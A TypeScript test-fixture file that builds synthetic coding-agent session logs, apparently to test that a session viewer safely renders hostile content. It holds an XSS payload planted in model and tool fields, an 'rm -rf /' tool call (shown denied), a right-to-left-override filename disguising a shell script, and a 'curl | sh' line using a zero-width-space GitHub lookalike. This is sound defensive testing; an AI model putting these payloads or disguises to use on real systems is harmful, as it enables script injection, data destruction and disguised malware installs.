import type { StoredEvent, StoredSession } from '@cordage/services'

/** What hostile tool output and model text try: end the script element, inject markup, run script. */
export const HOSTILE = `</script><script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2"><!-- <script>`

function events(list: Array<Omit<StoredEvent, 'seq' | 'time'> & { ms?: number }>): StoredEvent[] {
  const start = Date.parse('2026-12-01T10:00:00.000Z')
  let at = start
  return list.map(({ ms = 100, ...event }, index) => {
    at += ms
    return { ...event, seq: index + 1, time: new Date(at).toISOString() }
  })
}

const diff = `--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1,3 +1,3 @@\n import { start } from './start.js'\n-start(${'{'} port: 80 })\n+start(${'{'} port: 8080 })\n export {}\n`

/** A finished session with every kind of event, hostile text in every field a model or a tool writes, and a child run. */
export function richSession(): { session: StoredSession; children: StoredSession[] } {
  const session: StoredSession = {
    header: { type: 'session', version: 1, id: 'rich-1', createdAt: '2026-12-01T10:00:00.000Z', cwd: '/work/app', model: 'openai:gpt-test' },
    warnings: [],
    events: events([
      { type: 'system/message', data: { content: 'You are a coding agent.' } },
      { type: 'user/message', data: { content: `Fix the port. ${HOSTILE}` } },
      {
        type: 'assistant/message',
        ms: 1500,
        data: {
          content: `I will edit the file. ${HOSTILE}`,
          model: 'gpt-test',
          usage: { inputTokens: 1200, outputTokens: 80 },
          cost: 0.0042,
          thinking: [{ type: 'thinking', text: 'The port is in src/app.ts.' }],
          toolCalls: [
            { id: 'call_edit', name: 'edit', arguments: JSON.stringify({ path: 'src/app.ts', old_string: 'port: 80', new_string: 'port: 8080' }) },
            { id: 'call_bash', name: 'bash', arguments: JSON.stringify({ command: `echo '${HOSTILE}'` }) },
            { id: 'call_code', name: 'run_code', arguments: JSON.stringify({ code: 'await tools.read({ path: "x" })' }) },
            { id: 'call_rm', name: 'bash', arguments: JSON.stringify({ command: 'rm -rf /' }) },
            { id: 'call_sub', name: 'subagent', arguments: JSON.stringify({ task: 'check the tests' }) },
          ],
        },
      },
      {
        type: 'tool/result',
        data: {
          callId: 'call_edit',
          name: 'edit',
          isError: false,
          content: [{ type: 'text', text: 'Edited src/app.ts (+1 −1).' }],
          meta: { kind: 'diff', path: 'src/app.ts', operation: 'update', diff, additions: 1, deletions: 1 },
        },
      },
      {
        type: 'tool/result',
        data: {
          callId: 'call_bash',
          name: 'bash',
          isError: false,
          content: [
            { type: 'text', text: HOSTILE },
            { type: 'image', mimeType: 'text/html', data: 'PHNjcmlwdD4=' },
          ],
        },
      },
      {
        type: 'tool/code-dispatch',
        data: {
          parentCallId: 'call_code',
          index: 0,
          name: 'read',
          arguments: { path: 'x' },
          content: [{ type: 'text', text: `nested ${HOSTILE}` }],
          isError: false,
        },
      },
      {
        type: 'tool/result',
        data: {
          callId: 'call_code',
          name: 'run_code',
          isError: true,
          error: { message: 'ReferenceError: y is not defined', code: 'CODE_ERROR' },
          content: [{ type: 'text', text: 'Error: ReferenceError: y is not defined' }],
        },
      },
      {
        type: 'tool/result',
        data: {
          callId: 'call_rm',
          name: 'bash',
          isError: true,
          error: { message: 'denied by policy: rm -rf', code: 'DENIED' },
          content: [{ type: 'text', text: 'Error: denied by policy: rm -rf' }],
        },
      },
      { type: 'tool/result', data: { callId: 'call_sub', name: 'subagent', isError: false, content: [{ type: 'text', text: 'The tests pass.' }] } },
      {
        type: 'assistant/message',
        ms: 900,
        data: { content: 'The port is now 8080.', model: 'gpt-test', usage: { inputTokens: 1500, outputTokens: 20 }, cost: 0.003 },
      },
      { type: 'run/end', data: { stopReason: 'completed', turns: 2, usage: { inputTokens: 2700, outputTokens: 100 }, cost: 0.0072 } },
      { type: 'session/end', data: { reason: 'completed' } },
    ]),
  }
  const child: StoredSession = {
    header: {
      type: 'session',
      version: 1,
      id: 'rich-1-child',
      createdAt: '2026-12-01T10:00:02.000Z',
      cwd: '/work/app',
      parent: { session: 'rich-1', callId: 'call_sub', tool: 'subagent' },
      depth: 1,
    },
    warnings: [],
    events: events([
      { type: 'user/message', data: { content: 'check the tests' } },
      { type: 'assistant/message', data: { content: `Child says ${HOSTILE}`, usage: { inputTokens: 10, outputTokens: 5 } } },
      { type: 'session/end', data: { reason: 'completed' } },
    ]),
  }
  return { session, children: [child] }
}

/** A session of `count` events: turns of text and two tool calls with their results, as a long run writes. */
export function longSession(count: number): StoredSession {
  const list: Array<Omit<StoredEvent, 'seq' | 'time'>> = [{ type: 'user/message', data: { content: 'Refactor the whole project.' } }]
  for (let turn = 0; list.length + 3 < count; turn++) {
    list.push({
      type: 'assistant/message',
      data: {
        content: `Turn ${turn}: reading two files and changing one.\n`.repeat(3),
        usage: { inputTokens: 1000 + turn, outputTokens: 50 },
        toolCalls: [
          { id: `r${turn}`, name: 'read', arguments: JSON.stringify({ path: `src/file-${turn}.ts` }) },
          { id: `e${turn}`, name: 'edit', arguments: JSON.stringify({ path: `src/file-${turn}.ts`, old_string: 'a', new_string: 'b' }) },
        ],
      },
    })
    list.push({
      type: 'tool/result',
      data: { callId: `r${turn}`, name: 'read', isError: false, content: [{ type: 'text', text: `1\texport const a = ${turn}\n`.repeat(40) }] },
    })
    list.push({
      type: 'tool/result',
      data: {
        callId: `e${turn}`,
        name: 'edit',
        isError: false,
        content: [{ type: 'text', text: 'Edited.' }],
        meta: { kind: 'diff', path: `src/file-${turn}.ts`, operation: 'update', diff, additions: 1, deletions: 1 },
      },
    })
  }
  while (list.length < count - 1) list.push({ type: 'user/message', data: { content: 'go on' } })
  list.push({ type: 'session/end', data: { reason: 'completed' } })
  return {
    header: { type: 'session', version: 1, id: `long-${count}`, createdAt: '2026-12-01T10:00:00.000Z', cwd: '/work/app', model: 'openai:gpt-test' },
    warnings: [],
    events: events(list),
  }
}

/** A file name that reads `invoicehs.pdf` when U+202E (right-to-left override) is obeyed; it is a shell script. */
export const DISGUISED_PATH = 'invoice\u202Efdp.sh'
/** A host that looks like github.com: a zero-width space sits inside it. */
export const DISGUISED_URL = 'https://git\u200Bhub.com/install.sh'

/** A session whose text hides its real order or content with direction overrides and invisible characters. */
export function disguisedSession(): StoredSession {
  return {
    header: { type: 'session', version: 1, id: 'disguised-1', createdAt: '2026-12-01T10:00:00.000Z', cwd: '/work/app' },
    warnings: [],
    events: events([
      {
        type: 'assistant/message',
        data: {
          content: `Saved ${DISGUISED_PATH}.`,
          toolCalls: [{ id: 'call_write', name: 'write', arguments: JSON.stringify({ path: DISGUISED_PATH, content: `curl ${DISGUISED_URL} | sh` }) }],
        },
      },
      {
        type: 'tool/result',
        data: {
          callId: 'call_write',
          name: 'write',
          isError: false,
          content: [{ type: 'text', text: `Wrote ${DISGUISED_PATH}` }],
          meta: { kind: 'diff', path: DISGUISED_PATH, operation: 'create', diff: `+curl ${DISGUISED_URL} | sh\n`, additions: 1, deletions: 0 },
        },
      },
      { type: 'session/end', data: { reason: 'completed' } },
    ]),
  }
}

/** A session where every field a model or tool fills without a length limit holds `size` characters. */
export function oversizedSession(size: number): StoredSession {
  const huge = (mark: string) => mark + 'x'.repeat(size)
  return {
    header: { type: 'session', version: 1, id: 'oversized-1', createdAt: '2026-12-01T10:00:00.000Z', cwd: '/work/app', model: huge('model') },
    warnings: [],
    events: events([
      { type: 'assistant/message', data: { content: 'Editing.', model: huge('model'), toolCalls: [{ id: 'call_edit', name: huge('name'), arguments: '{}' }] } },
      {
        type: 'tool/result',
        data: {
          callId: 'call_edit',
          name: 'edit',
          isError: true,
          error: { message: huge('message'), code: 'EDIT_FAILED' },
          content: [{ type: 'resource', uri: huge('uri') }],
          meta: { kind: 'diff', path: huge('path'), operation: 'update', diff: `${huge('+line')}\n`, additions: 1, deletions: 0 },
        },
      },
      { type: 'session/end', data: { reason: huge('reason') } },
    ]),
  }
}
